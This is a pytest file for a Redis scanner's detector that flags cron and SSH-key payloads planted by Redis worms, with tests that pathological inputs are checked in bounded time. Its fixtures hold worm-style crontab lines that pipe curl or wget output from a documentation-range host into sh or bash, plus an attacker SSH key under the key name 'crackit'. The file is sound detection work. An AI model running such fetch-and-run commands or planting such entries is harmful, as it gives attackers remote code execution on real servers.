"""The Redis probe's dataset hook: cron and SSH payloads found in linear time (issues 8 and 9).

The old check ran a backtracking regex over every string: 200 keys of ``0 0 * * * `` repeated
blocked the event loop for 87 s (measured on this machine; issue 9 saw 3 minutes). The hook now
reads at most 8 KiB per string and 1 MiB per dataset, and every pattern is linear. Hostile
inputs run in a child process under a memory limit and a timeout.
"""

from __future__ import annotations

import subprocess
import sys

import pytest

from ajar.models import Record
from ajar.probes.redis import CRON_PAYLOAD, RedisProbe

CRON = "\n\n*/1 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n\n"


@pytest.mark.parametrize(
    ("name", "value", "found"),
    [
        ("the worm's crontab", CRON, True),
        ("a schedule then wget on the same line", "0 3 * * * wget -q -O- http://203.0.113.9/a | bash", True),
        ("a schedule in the middle of a line", "x */5 * * * * python -c 'import os'", True),
        # hard negatives
        ("a schedule with no command that fetches or runs", "*/1 * * * * /usr/bin/true", False),
        ("the command on the next line, not the schedule's", "*/1 * * * * true\ncurl http://203.0.113.9", False),
        ("a day-of-month field that is not *: not the worms' form", "0 0 1 * * curl http://x", False),
        ("a word that only contains sh", "*/1 * * * * fish shell", False),
        ("no schedule at all", "curl -fsSL http://203.0.113.9/x.sh | sh", False),
    ],
)
def test_cron_lines(name: str, value: str, found: bool) -> None:
    out = RedisProbe.dataset_signals("db0.jobs", [Record({"value": value}, meta={"key": "jobs:1"})])
    assert bool(out) == found, name
    if found:
        assert out[0].rule == CRON_PAYLOAD.id and out[0].datasets == ("db0.jobs",)
        assert "203.0.113.9" not in out[0].detail and "jobs:1" not in out[0].detail


def test_ssh_key_counts_only_under_a_worm_key_name() -> None:
    key = "\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ attacker@box\n\n"
    assert RedisProbe.dataset_signals("db0", [Record({"key": "crackit", "value": key})])
    # an SSH public key in an ordinary key is configuration, not a payload
    assert not RedisProbe.dataset_signals("db0", [Record({"key": "deploy:key", "value": key})])


_HOSTILE = r"""
import resource, sys, time
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
from ajar.models import Record
from ajar.probes.redis import RedisProbe
cases = {
    "schedules": "0 0 * * * " * 100_000,
    "stars": "* " * 500_000,
    "digits": "1" * 1_000_000,
    "spaces": "1" + " " * 1_000_000 + "*",
}
for name, value in cases.items():
    records = [Record({"v": value, "k": {"nested": [value]}}) for _ in range(300)]
    t = time.perf_counter()
    RedisProbe.dataset_signals("db0", records)
    print(name, round(time.perf_counter() - t, 3))
"""


def test_hostile_payloads_are_checked_in_bounded_time_and_memory() -> None:
    r = subprocess.run([sys.executable, "-c", _HOSTILE], capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr[-2000:]
    times = {line.split()[0]: float(line.split()[1]) for line in r.stdout.splitlines()}
    assert set(times) == {"schedules", "stars", "digits", "spaces"}
    # linear and bounded: well under a second each on a quiet machine; 10 s leaves room for a busy one
    assert max(times.values()) < 10, times
